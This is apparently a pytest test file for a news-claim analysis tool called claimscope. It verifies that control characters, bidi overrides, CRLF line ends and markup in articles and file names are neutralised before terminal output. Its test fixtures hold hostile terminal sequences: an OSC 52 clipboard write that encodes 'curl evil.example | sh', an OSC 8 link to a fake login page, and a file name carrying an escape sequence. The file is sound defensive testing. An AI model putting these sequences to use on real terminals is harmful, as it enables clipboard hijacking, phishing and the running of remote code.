"""Hostile text (escape sequences, control characters, bidi overrides, Rich markup, CRLF line
ends, spreadsheet formulas) from articles, titles, file names and options never reaches the
terminal raw, never crashes a report, and never runs in a spreadsheet (issue 11)."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

import claimscope
from claimscope.render import STYLES, render_document
from claimscope.terminal import safe

# What a terminal acts on: ESC (CSI/OSC sequences), BEL, BS, CR, the C1 controls (0x9b is a
# one-byte CSI) and the bidi overrides, embeddings and isolates.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh"
LINK = "\x1b]8;;https://evil.example/login\x1b\\"  # OSC 8 hyperlink opener
CURSOR_QUERY = "\x1b[6n"
HOSTILE_ARTICLE = (
    "date 2023-03-01\n"
    f'"We will not withdraw{CLEAR} from the region," the defence minister Oleh{LINK} Petrenko '
    "told reporters in Odesa\x07.\n"
    f"The governor said that 12 people were{CURSOR_QUERY} evacuated from Kharkiv overnight"
    f"{CLIPBOARD}.\n"
    "Mayor Ivan Fedorov said that 40 people were evacuated from Zaporizhzhia\u202e on Monday.\n"
    "The regional governor said that the shelling of Sumy\x9b2J had not stopped\r"
    "The army said everything is fine.\n"
)


def run(*args: str, columns: int = 200, **kw) -> subprocess.CompletedProcess:
    """The CLI as a user runs it, on a pipe (no colour codes of Rich's own)."""
    env = {k: v for k, v in os.environ.items() if k not in ("FORCE_COLOR", "TTY_COMPATIBLE")}
    env["COLUMNS"] = str(columns)
    return subprocess.run(
        [sys.executable, "-m", "claimscope", *args], capture_output=True, text=True, env=env, **kw
    )


def assert_clean(proc: subprocess.CompletedProcess) -> None:
    for name, stream in (("stdout", proc.stdout), ("stderr", proc.stderr)):
        raw = sorted({hex(ord(c)) for c in RAW.findall(stream)})
        assert not raw, f"raw control characters {raw} on {name}:\n{stream!r}"
    assert "Traceback" not in proc.stderr, proc.stderr


def hostile_ledger(tmp_path: Path) -> tuple[Path, list[dict]]:
    # a file name is data too: an origin with an escape sequence and markup in it
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "report\x1b[2J[bold]odesa.txt").write_text(HOSTILE_ARTICLE, encoding="utf-8")
    db = tmp_path / "hostile.db"
    proc = run("analyze", str(folder), "--db", str(db), "-q")
    assert proc.returncode == 0, proc.stderr
    assert_clean(proc)
    records = [
        json.loads(x) for x in run("claims", "--db", str(db), "-f", "jsonl").stdout.split("\n") if x
    ]
    assert any("\x1b" in r["text"] for r in records)  # the test is only worth it if data is hostile
    return db, records


# ---------------------------------------------------------------------- the sanitiser
def test_reliability_terminal_safe_makes_controls_visible():
    assert safe("a\x1b[2Jb") == "a\u241b[2Jb"
    assert safe("bell\x07") == "bell\u2407"
    assert safe("csi\x9b6n") == "csi\ufffd6n"
    assert safe("Kyiv\u202eviyK") == "Kyiv\ufffdviyK"
    assert safe("over\rwrite") == "over\u240dwrite"
    assert safe("two\nlines") == "two\u240alines"
    assert safe("two\r\nlines\rx", newlines=True) == "two \nlines\u240dx"
    assert safe("tab\there [b]kept[/b]") == "tab\there [b]kept[/b]"


@given(st.text())
def test_reliability_terminal_safe_keeps_length_and_leaves_nothing_raw(text):
    for newlines in (False, True):
        shown = safe(text, newlines=newlines)
        assert len(shown) == len(text)
        assert not RAW.search(shown)
        assert ("\n" in shown) == (newlines and "\n" in text)


# ---------------------------------------------------------------------- item 3: CRLF
CRLF_ARTICLE = (
    "date 2023-03-02\r\n"
    "According to the regional governor, 120 people were evacuated from Kharkiv overnight.\r\n"
    '"The shelling has not stopped for three days," said a spokesman for the city council.\r\n'
    "The mayor said that 30 buildings were damaged in Sumy on Monday.\r\n"
)


def _styled(text, style: str) -> set[str]:
    return {text.plain[s.start : s.end] for s in text.spans if s.style == style}


def test_reliability_terminal_show_highlights_crlf_documents_in_place(tmp_path):
    article = tmp_path / "crlf.txt"
    article.write_bytes(CRLF_ARTICLE.encode("utf-8"))
    db = tmp_path / "crlf.db"
    with claimscope.Ledger(str(db)) as ledger:
        ledger.analyze([str(article)])
        (doc_id,) = {c.doc_id for c in ledger.claims()}
        doc = ledger.document(doc_id)
    assert "\r\n" in doc.text and len(doc.claims) >= 2
    text = render_document(doc)
    assert len(text.plain) == len(doc.text)
    claimants = _styled(text, STYLES["claimant"])
    for c in doc.claims:
        assert doc.text[c.claimant.start : c.claimant.end] in claimants
    assert {"said", "According to"} <= _styled(text, STYLES["cue"])
    shown = run("show", doc_id, "--db", str(db))
    assert_clean(shown)


def test_reliability_terminal_render_makes_a_lone_cr_visible_in_place():
    doc = claimscope.analyze_text(
        "Nothing happened here.\rThe governor said that 12 people were evacuated from Kharkiv.",
        date="2023-03-01",
        lang="en",
    )
    text = render_document(doc)
    assert text.plain == doc.text.replace("\r", "\u240d")
    (claim,) = doc.claims
    assert doc.text[claim.claimant.start : claim.claimant.end] in _styled(text, STYLES["claimant"])
